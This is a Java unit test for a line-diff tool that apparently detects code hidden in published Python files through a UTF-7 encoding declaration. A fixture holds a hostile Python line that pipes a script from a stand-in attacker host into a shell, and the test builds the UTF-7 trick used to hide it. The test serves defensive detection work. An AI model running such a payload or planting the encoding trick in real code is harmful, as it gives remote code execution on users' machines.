package dev.divergence.compare;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;

/** The added lines are what Python reads: a new or changed PEP 263 declaration first, a UTF-7 run decoded (c6). */
class LineDiffEncodingTest {

    private static final String SOURCE = "\"\"\"demo\"\"\"\n\ndef add(a, b):\n    return a + b\n";
    private static final String PAYLOAD = "__import__('os').system('curl -s https://attacker.example/p | sh')";

    private static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.US_ASCII);
    }

    @Test
    void anAddedUtf7DeclarationLeadsTheAddedTextAndItsRunIsDecoded() {
        String run = "+" + Base64.getEncoder().encodeToString(PAYLOAD.getBytes(Charset.forName("UTF-16BE")))
                .replace("=", "") + "-";
        String published = "# -*- coding: utf-7 -*-\n" + SOURCE + "\n" + run + "\n";
        String added = LineDiff.of(ascii(published), ascii(SOURCE)).addedText();
        assertTrue(added.startsWith("# -*- coding: utf-7"), added);
        assertTrue(added.contains(PAYLOAD), added);
        assertFalse(LineDiff.of(ascii(SOURCE), ascii(SOURCE)).addedText().contains("coding"));
    }

    @Test
    void aDeclarationMovedToTheFirstLineIsAddedThoughItsTextWasThere() {
        String source = "x = 1\n# coding: utf-7\n";
        String published = "# coding: utf-7\nx = 1\n";
        assertTrue(LineDiff.of(ascii(published), ascii(source)).addedText().startsWith("# coding: utf-7"));
        // the same declaration kept where it was adds nothing
        String kept = "# coding: latin-1\nx = 1\n";
        assertFalse(LineDiff.of(ascii(kept + "y = 2\n"), ascii(kept)).addedText().contains("coding"));
    }
}
